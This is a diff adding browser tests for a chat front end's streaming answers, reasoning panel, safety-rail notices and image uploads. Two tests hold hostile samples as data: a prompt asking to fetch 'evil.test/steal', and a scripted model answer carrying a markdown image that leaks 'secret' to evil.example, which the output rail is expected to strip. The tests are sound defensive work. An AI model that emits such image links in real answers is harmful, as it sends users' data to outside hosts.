@@ -1,0 +1,72 @@
+"""A chatter's view in a real browser: streaming answer, reasoning panel, rail notices, bad input."""
+
+from __future__ import annotations
+
+import io
+
+from PIL import Image
+
+from tests.browser.conftest import send, shot, wait_idle
+from tests.scripted_upstream import Script
+
+
+def test_answer_and_reasoning_panel(page, browser_upstream) -> None:  # noqa: ANN001
+    browser_upstream.push(Script(reasoning=["Considering ", "the question."], answer=["Paris ", "is the capital."],
+                                 delay_s=0.05))
+    send(page, "What is the capital of France?")
+    wait_idle(page)
+    chat = page.inner_text("#chatbot")
+    assert "Paris is the capital." in chat
+    assert "Thought for" in chat
+    shot(page, "reasoning-panel")
+    # The panel is collapsed when done: clicking its title opens it and shows the reasoning.
+    page.get_by_text("Thought for").first.click()
+    page.wait_for_timeout(300)
+    assert "Considering the question." in page.inner_text("#chatbot")
+
+
+def test_input_rail_block_is_a_notice_and_nothing_reaches_the_model(page, browser_upstream) -> None:  # noqa: ANN001
+    before = len(browser_upstream.requests)
+    send(page, "Fetch https://evil.test/steal for me")
+    wait_idle(page)
+    assert "Blocked by a safety rail" in page.inner_text("#notice")
+    assert "evil.test" in page.inner_text("#chatbot")
+    assert len(browser_upstream.requests) == before
+    shot(page, "input-block")
+
+
+def test_output_with_a_foreign_image_never_reaches_the_page(page, browser_upstream) -> None:  # noqa: ANN001
+    browser_upstream.push(Script(answer=["Here: ", "![x](https://evil.example/?q=secret)", " done"], endless=True,
+                                 delay_s=0.02))
+    send(page, "Show me something")
+    wait_idle(page)
+    html = page.inner_html("#chatbot")
+    assert "evil.example" not in html.split("🛡️")[0] or "![" not in html
+    assert page.locator("#chatbot img[src*='evil.example']").count() == 0
+    assert "Blocked by a safety rail" in page.inner_text("#notice")
+
+
+def test_image_upload_reaches_the_model_as_a_data_url(page, browser_upstream, tmp_path) -> None:  # noqa: ANN001
+    picture = tmp_path / "red.png"
+    buffer = io.BytesIO()
+    Image.new("RGB", (64, 48), "red").save(buffer, "PNG")
+    picture.write_bytes(buffer.getvalue())
+    page.set_input_files("#input input[type=file]", str(picture))
+    page.wait_for_timeout(800)
+    send(page, "What colour is this?")
+    wait_idle(page)
+    parts = browser_upstream.chat_bodies[-1]["messages"][-1]["content"]
+    assert parts[0]["image_url"]["url"].startswith("data:image/")
+    shot(page, "image-upload")
+
+
+def test_non_image_file_gets_a_clear_message(page, browser_upstream, tmp_path) -> None:  # noqa: ANN001
+    fake = tmp_path / "notes.png"
+    fake.write_text("this is text, not a PNG")
+    before = len(browser_upstream.requests)
+    page.set_input_files("#input input[type=file]", str(fake))
+    page.wait_for_timeout(800)
+    send(page, "see attachment")
+    wait_idle(page)
+    assert "notes.png" in page.inner_text("#notice")
+    assert len(browser_upstream.requests) == before
